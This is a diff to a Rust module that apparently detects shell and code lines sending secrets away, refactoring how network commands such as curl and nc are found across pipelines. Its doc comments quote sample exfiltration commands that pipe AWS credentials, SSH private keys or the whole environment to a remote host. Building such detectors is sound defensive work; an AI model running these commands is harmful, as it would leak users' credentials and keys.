@@ -2,9 +2,9 @@
 //!
 //! Every function takes one line in lower case and answers where in it the deed begins.
 
-use super::command::find_word;
+use super::command::{first_of, first_word};
 use super::credential;
-use super::shell::{command, pipelines, words};
+use super::shell::{Piece, command, pipelines, words};
 
 /// Commands that talk to other machines.
 const NETWORK: &[&str] = &[
@@ -144,13 +144,18 @@ const MAX_PLACES: usize = 16;
 
 /// Where the line sends data away that nobody gives to strangers, and what it does.
 pub(super) fn sent(line: &str) -> Option<(usize, &'static str)> {
-    let through = if line.contains('|') { piped(line) } else { None };
-    through.or_else(|| uploaded(line)).or_else(|| filled_in(line)).or_else(|| called(line))
+    // All but the calls need a command of the network, which stands as a word in a line that holds it in a part of it.
+    let from = network(line);
+    let through = from.and_then(|from| {
+        let cut = pipelines(line);
+        piped(&cut).or_else(|| uploaded(&cut)).or_else(|| filled_in(line, from))
+    });
+    through.or_else(|| called(line))
 }
 
 /// `cat ~/.aws/credentials | curl -d @- …`, `env | nc …`, `base64 x | curl -T - …`.
-fn piped(line: &str) -> Option<(usize, &'static str)> {
-    pipelines(line).iter().find_map(|pipeline| {
+fn piped(pipelines: &[Vec<Piece<'_>>]) -> Option<(usize, &'static str)> {
+    pipelines.iter().find_map(|pipeline| {
         let (at, target) = pipeline.iter().enumerate().skip(1).find(|(_, stage)| takes_in(stage.text))?;
         let before = pipeline.get(..at)?;
         let first = before.first().filter(|first| network(first.text).is_none())?;
@@ -174,8 +179,8 @@ fn piped(line: &str) -> Option<(usize, &'static str)> {
 }
 
 /// `curl -F file=@~/.ssh/id_rsa …`, `nc host 9 < ~/.ssh/id_rsa`.
-fn uploaded(line: &str) -> Option<(usize, &'static str)> {
-    pipelines(line).iter().flatten().find_map(|stage| {
+fn uploaded(pipelines: &[Vec<Piece<'_>>]) -> Option<(usize, &'static str)> {
+    pipelines.iter().flatten().find_map(|stage| {
         let from = network(stage.text)?;
         let given = stage.text.get(from..)?;
         let mut flag = None;
@@ -197,11 +202,10 @@ fn uploaded(line: &str) -> Option<(usize, &'static str)> {
 }
 
 /// `curl "https://…?d=$(cat ~/.ssh/id_rsa)"`, `wget … --post-data="$(env)"`.
-fn filled_in(line: &str) -> Option<(usize, &'static str)> {
+fn filled_in(line: &str, from: usize) -> Option<(usize, &'static str)> {
     if !line.contains(['(', '`']) {
         return None;
     }
-    let from = network(line)?;
     let rest = line.get(from..)?;
     ["$(", "<(", "=`", "\"`", "/`", "(get-content ", "(gc ", "(gci env:", "(get-childitem env:"].iter().find_map(
         |opening| {
@@ -232,7 +236,7 @@ fn filled_in(line: &str) -> Option<(usize, &'static str)> {
 
 /// Where a command of the network stands.
 fn network(text: &str) -> Option<usize> {
-    NETWORK.iter().filter_map(|word| find_word(text, word)).min()
+    first_word(text, NETWORK)
 }
 
 /// Whether a command sends what is piped into it.
@@ -254,7 +258,7 @@ fn is_environment(stage: &str) -> bool {
 
 /// `requests.post(url, data=open("~/.ssh/id_rsa"))`, `fetch(url, {body: JSON.stringify(process.env)})`.
 fn called(line: &str) -> Option<(usize, &'static str)> {
-    let at = CALLS.iter().filter_map(|call| line.find(call)).min()?;
+    let at = first_of(line, CALLS)?;
     let rest = line.get(at..)?;
     if WHOLE_ENVIRONMENT.iter().any(|whole| rest.contains(whole)) {
         return Some((at, "sends the whole environment away"));
